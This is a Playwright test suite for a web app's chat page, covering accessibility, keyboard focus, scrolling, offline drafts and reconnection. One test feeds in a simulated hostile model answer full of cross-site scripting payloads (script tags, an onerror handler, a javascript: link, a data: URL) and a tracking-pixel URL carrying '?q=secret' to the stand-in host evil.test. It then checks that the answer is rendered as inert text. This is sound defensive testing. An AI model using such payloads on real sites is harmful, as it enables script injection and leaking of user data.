import { type Page } from '@playwright/test';
import {
  expectContentLoaded,
  expectAccessibleInBothSchemes,
  expectNoBlankEnd,
  expectNoHorizontalScroll,
  expectNoStrayText,
} from '../../pages/accessible';
import { askInChat, lastAnswer } from '../pages/chat';
import { expect, test } from '../../pages/journey';
import { ScriptedAnswer } from '../pages/scripted-answer';
import { newEmail, signIn, signInOnPage } from '../../pages/visitor';

const PHONE = { width: 390, height: 844 };
const DESKTOP = { width: 1440, height: 900 };

const HOSTILE = `<script>window.hacked = 1</script><img src=x onerror="window.hacked = 1">
<iframe src="https://evil.test/frame"></iframe><style>body { display: none }</style>

![tracker](https://evil.test/pixel.png?q=secret) [click](javascript:window.hacked=1) [out](https://evil.test/page)
[data](data:text/html,<script>1</script>) <a href="https://evil.test">raw</a> <form action="https://evil.test"><input></form>

| wide | ${'column | '.repeat(14)}
| --- | ${'--- | '.repeat(14)}
| ${'a-cell-that-does-not-break | '.repeat(15)}

\`\`\`html
<script>${'long '.repeat(80)}</script>
\`\`\`

${'unbreakable'.repeat(60)}`;

const openChat = async (page: Page): Promise<ScriptedAnswer> => {
  const script = await ScriptedAnswer.install(page);
  await signIn(page, newEmail('chat-page'));
  await page.goto('/dashboard/chat');
  await expect(page.getByText('20 of 20 messages left')).toBeVisible();
  return script;
};
const announcement = (page: Page, text: string) =>
  page.getByRole('status').filter({ hasText: text });
const conversation = (page: Page) => page.getByRole('region', { name: 'Conversation' });

test.describe('the chat page', () => {
  test('shows hostile model output as text and fetches nothing for it', async ({ page }) => {
    const foreign: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes('evil.test')) foreign.push(request.url());
    });
    const script = await openChat(page);
    await askInChat(page, 'Be evil');
    await script.begin('Be evil');
    for (let at = 0; at < HOSTILE.length; at += 37) await script.write(HOSTILE.slice(at, at + 37));
    await script.complete(HOSTILE);

    const answer = lastAnswer(page);
    await expect(answer.getByText('unbreakableunbreakable')).toBeVisible();
    await expect(answer.locator('script, img, iframe, style, form, input, object')).toHaveCount(0);
    await expect(answer).toContainText('<script>window.hacked = 1</script>');
    // The text shows before the code that renders Markdown is loaded.
    await expect(answer.getByRole('link')).toHaveCount(2);
    const links = await answer
      .getByRole('link')
      .evaluateAll((all) =>
        all.map((link) => [link.getAttribute('href'), link.getAttribute('rel')]),
      );
    expect(links.map(([href]) => href).sort()).toEqual([
      'https://evil.test/page',
      'https://evil.test/pixel.png?q=secret',
    ]);
    for (const [, rel] of links) expect(rel).toBe('noopener noreferrer nofollow');
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    expect(foreign).toEqual([]);

    await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
    await answer.locator('figure').getByRole('button', { name: 'Copy' }).click();
    await expect(answer.getByRole('button', { name: 'Copied' })).toBeVisible();
    for (const size of [DESKTOP, PHONE]) {
      await page.setViewportSize(size);
      await expectNoHorizontalScroll(page, `hostile answer at ${size.width}`);
      await expectAccessibleInBothSchemes(page, `hostile answer at ${size.width}`);
    }
  });

  test('has no accessibility violations in its states', async ({ page }) => {
    const script = await openChat(page);
    await expect(page.getByText('Your chats will appear here.')).toBeVisible();
    for (const size of [DESKTOP, PHONE]) {
      await page.setViewportSize(size);
      await expectContentLoaded(page);
      await expectAccessibleInBothSchemes(page, `empty at ${size.width}`);
    }
    await askInChat(page, 'What does Pro give?');
    await expectAccessibleInBothSchemes(page, 'waiting');
    await script.begin('What does Pro give?');
    await script.cite({ heading: 'What each plan gives', anchor: 'what-each-plan-gives' });
    await script.write('Pro gives 2,000 messages [1].\n\n- one\n- two\n\n```sh\nnpm start');
    await expectAccessibleInBothSchemes(page, 'answering');
    await page.getByRole('button', { name: 'History', exact: true }).click();
    await expect(page.getByRole('button', { name: 'Close history' })).toBeVisible();
    await expectAccessibleInBothSchemes(page, 'history on a phone');
    await page.keyboard.press('Escape');
    await expect(page.getByRole('button', { name: 'Close history' })).toBeHidden();
    await expect(page.getByRole('button', { name: 'History', exact: true })).toBeFocused();
  });

  test('works by keyboard and announces its state', async ({ page }) => {
    const script = await openChat(page);
    const field = page.getByRole('textbox', { name: 'Your question' });
    await field.focus();
    await page.keyboard.type('First line');
    await page.keyboard.press('Shift+Enter');
    await page.keyboard.type('second line');
    await page.keyboard.press('Enter');
    expect(await script.asked()).toMatchObject([{ kind: 'ask', text: 'First line\nsecond line' }]);
    await expect(announcement(page, 'Generating answer.')).toBeAttached();
    await expect(field).toBeFocused();
    await script.begin('First line\nsecond line');
    await script.write('Half an ');
    await page.keyboard.type('next thought');
    await page.keyboard.press('Escape');
    await expect(lastAnswer(page)).toContainText('Stopped');
    await expect(announcement(page, 'Answer stopped.')).toBeAttached();
    await expect(field).toHaveValue('next thought'); // typed during the answer
    await expect(field).toBeFocused();
    await page.keyboard.press('Enter');
    await script.begin('next thought');
    await script.complete('Done.');
    await expect(announcement(page, 'Answer complete.')).toBeAttached();
  });

  test('keeps the focus when a question is edited and an answer is tried again', async ({
    page,
  }) => {
    const script = await openChat(page);
    await askInChat(page, 'First');
    await script.begin('First');
    await script.complete('Done.');
    const edit = page.getByRole('button', { name: 'Edit', exact: true });
    const editor = page.locator('app-message').getByRole('textbox', { name: 'Your question' });
    await edit.focus();
    await page.keyboard.press('Enter');
    await expect(editor).toBeFocused();
    await page.keyboard.press('End');
    await page.keyboard.type(' ag');
    await page.keyboard.press('Escape'); // the edit goes on later
    await expect(edit).toBeFocused();
    await page.keyboard.press('Enter');
    await expect(editor).toBeFocused();
    await expect(editor).toHaveValue('First ag');
    await page.keyboard.press('End');
    await page.keyboard.type('ain');
    await page.keyboard.press('Enter');
    expect((await script.asked(2))[1]).toMatchObject({ kind: 'edit', text: 'First again' });
    await expect(conversation(page)).toBeFocused();
    await script.begin('First again');
    await script.complete('Done again.');
    await page.getByRole('button', { name: 'Try again' }).focus();
    await page.keyboard.press('Enter');
    expect((await script.asked(3))[2]).toMatchObject({ kind: 'retry' });
    await expect(conversation(page)).toBeFocused();
  });

  test('only the conversation scrolls, however long it is', async ({ page }) => {
    const script = await openChat(page);
    await askInChat(page, 'Tell me everything');
    await script.begin('Tell me everything');
    await script.complete('A line.\n\n'.repeat(80));
    for (const size of [DESKTOP, PHONE]) {
      await page.setViewportSize(size);
      await expectNoBlankEnd(page, `${size.width} px`);
      await expectNoStrayText(page, `${size.width} px`);
    }
  });

  test('scrolls with an answer until the user scrolls up', async ({ page }) => {
    const script = await openChat(page);
    await askInChat(page, 'Tell me everything');
    await script.begin('Tell me everything');
    const lines = (from: number) =>
      Array.from({ length: 40 }, (_, n) => `Line ${from + n}.\n\n`).join('');
    await script.write(lines(0));
    const toEnd = () =>
      conversation(page).evaluate((box) => box.scrollHeight - box.scrollTop - box.clientHeight);
    await expect(page.getByText('Line 39.')).toBeInViewport();
    expect(await toEnd()).toBeLessThan(80);
    await conversation(page).evaluate((box) => box.scrollTo({ top: 120 }));
    await expect(page.getByRole('button', { name: 'Scroll to end' })).toBeVisible();
    await script.write(lines(40));
    await expect(page.getByText('Line 79.')).toBeAttached();
    expect(await conversation(page).evaluate((box) => box.scrollTop)).toBe(120);
    await page.getByRole('button', { name: 'Scroll to end' }).click();
    await expect(page.getByText('Line 79.')).toBeInViewport();
    await script.write(lines(80));
    await expect(page.getByText('Line 119.')).toBeInViewport();
  });

  test('keeps a draft while offline, after a reload, and when the answer fails to start', async ({
    page,
    context,
  }) => {
    await signIn(page, newEmail('chat-draft'));
    await page.goto('/dashboard/chat');
    const field = page.getByRole('textbox', { name: 'Your question' });
    await field.fill('A long thought that must not be lost');
    // Drafts are saved once the user is known.
    await expect
      .poll(() => page.evaluate(() => Object.values(sessionStorage).join('\n')))
      .toContain('A long thought');
    await page.reload();
    await expect(field).toHaveValue('A long thought that must not be lost');
    await context.setOffline(true);
    await field.press('Enter');
    await expect(page.getByRole('alert').filter({ hasText: /offline|connection/i })).toBeVisible();
    await expect(field).toHaveValue('A long thought that must not be lost');
    await expectAccessibleInBothSchemes(page, 'offline');
    await context.setOffline(false);
    await conversation(page).getByRole('button', { name: 'Retry' }).click();
    await expect(lastAnswer(page).getByRole('button', { name: 'Copy' })).toBeVisible();
    await expect(field).toHaveValue('');
  });

  test('keeps a partial answer after a lost connection and offers a retry', async ({ page }) => {
    const script = await openChat(page);
    await askInChat(page, 'What does Pro give?');
    await script.begin('What does Pro give?');
    await script.write('Pro gives');
    await script.disconnect();
    await expect(page.getByText('Connection lost')).toBeVisible();
    await expect(lastAnswer(page)).toContainText('Pro gives');
    await expectAccessibleInBothSchemes(page, 'lost connection');
  });

  test('the dashboard asks, and the chat answers', async ({ page }) => {
    const script = await ScriptedAnswer.install(page);
    await signInOnPage(page, newEmail('chat-panel'));
    const panel = page.getByRole('region', { name: 'Ask' });
    const suggestions = panel.getByRole('list', { name: 'Suggested questions' });
    await expect(suggestions.getByRole('button')).toHaveCount(3);
    for (const size of [PHONE, DESKTOP]) {
      await page.setViewportSize(size);
      await expectNoHorizontalScroll(page, `the question at ${size.width}`);
      await expectAccessibleInBothSchemes(page, `the question at ${size.width}`);
    }
    await askInChat(page, 'What does Pro give?');
    await expect(page).toHaveURL(/\/dashboard\/chat/);
    await script.begin('What does Pro give?');
    await script.cite({});
    await script.write('2,000 messages [1].');
    await expect(lastAnswer(page)).toContainText('2,000 messages');
    await expect(page.getByRole('textbox', { name: 'Your question' })).toHaveValue('');
  });
});
